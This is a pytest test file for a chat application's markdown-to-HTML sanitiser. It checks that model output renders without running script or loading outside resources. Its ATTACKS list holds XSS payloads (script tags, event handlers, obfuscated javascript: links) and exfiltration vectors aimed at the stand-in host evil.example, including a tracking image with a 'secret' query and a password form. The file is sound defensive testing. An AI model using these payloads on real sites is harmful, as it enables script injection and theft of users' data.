"""Model output becomes HTML that can carry nothing out and run nothing."""

from html.parser import HTMLParser

import pytest

from chat import markdown
from chat.markdown import ATTRIBUTES, LONGEST_HIGHLIGHTED, TAGS, render

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![pixel](https://evil.example/?q=secret)",
    "[![pixel](https://evil.example/p.png)](https://evil.example)",
    "![pixel][1]\n\n[1]: https://evil.example/p.png",
    '<p style="background:url(https://evil.example)">x</p>',
    '<svg onload="alert(1)"><style>*{}</style></svg>',
    "<iframe src=https://evil.example></iframe><object></object><embed>",
    '<form action="https://evil.example"><input name=password><button>ok</button></form>',
    '<link rel=stylesheet href="https://evil.example"><meta http-equiv=refresh content="0;https://evil.example">',
    "|a|\n|-:|\n|<img src=x>|",
    '```python" onmouseover="alert(1)\nx = 1\n```',
    '```"><script>alert(1)</script>\nx\n```',
    "<math><mtext><style><img src=x onerror=alert(1)>",
    '<div hx-get="/agents/" hx-trigger="load">x</div>',
    '[x](https://ok.example "title\\" onclick=alert(1)")',
]


class _Seen(HTMLParser):
    """What a browser would find in it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.links: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize("attack", ATTACKS)
def test_only_harmless_tags_attributes_and_links_survive(attack: str) -> None:
    seen = _Seen(render(attack))
    allowed = {(tag, name) for tag, names in ATTRIBUTES.items() for name in names} | {("a", "target"), ("a", "rel")}
    assert seen.tags <= TAGS
    assert seen.attributes <= allowed
    assert all(link.startswith(("https://", "http://", "mailto:")) for link in seen.links)


def test_nothing_that_loads_or_runs_is_among_the_allowed() -> None:
    dangerous = {"script", "style", "img", "svg", "iframe", "object", "embed", "form", "input", "link", "meta", "video"}
    names = {name for attributes in ATTRIBUTES.values() for name in attributes}
    assert not TAGS & dangerous
    assert not names & {"style", "src", "srcset", "id", "name"}
    assert not [name for name in names if name.startswith(("on", "hx-", "data-"))]


def test_html_is_shown_as_the_text_it_is() -> None:
    assert "<script>alert(1)</script> & more" in _Seen(render("Look: <script>alert(1)</script> & more")).text


def test_links_open_apart_and_tell_nothing() -> None:
    html = render("[the site](https://example.org/a?b=1)")
    assert 'href="https://example.org/a?b=1"' in html
    assert 'target="_blank"' in html and 'rel="noopener noreferrer nofollow"' in html


def test_code_of_a_known_language_is_coloured_with_classes_alone() -> None:
    html = render("```python\ndef greet(name):\n    return f'hi {name}'\n```")
    assert '<span class="k">def</span>' in html and "style" not in html
    assert _Seen(html).text.strip() == "def greet(name):\n    return f'hi {name}'"
    assert html.count("<pre>") == 1


@pytest.mark.parametrize("language", ["", "nosuchlanguage"])
def test_code_of_no_known_language_is_shown_plainly(language: str) -> None:
    html = render(f"```{language}\na < b\n```")
    assert "a &lt; b" in html and "<span" not in html


def test_code_too_long_to_colour_is_shown_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "highlight", lambda *_: pytest.fail("it was coloured"))
    code = "x = 1\n" * (LONGEST_HIGHLIGHTED // 6 + 1)
    assert _Seen(render(f"```python\n{code}```")).text.strip() == code.strip()


def test_tables_lists_and_emphasis_are_drawn() -> None:
    html = render("|a|b|\n|-|-:|\n|1|2|\n\n1. one\n2. two\n\n**bold** *it* ~~gone~~ `code`\n\n> said")
    wanted = {"table", "thead", "tbody", "tr", "th", "td", "ol", "li", "strong", "em", "s", "code", "blockquote"}
    assert wanted <= _Seen(html).tags
    assert "style" not in html


def test_a_single_line_break_is_kept() -> None:
    assert "one<br>" in render("one\ntwo")


@pytest.mark.parametrize("text", ["", " ", "\n\n", "*", "[", "```", "|", "> " * 500, "[" * 2000, "*a " * 2000])
def test_any_text_can_be_rendered(text: str) -> None:
    assert _Seen(render(text)).tags <= TAGS
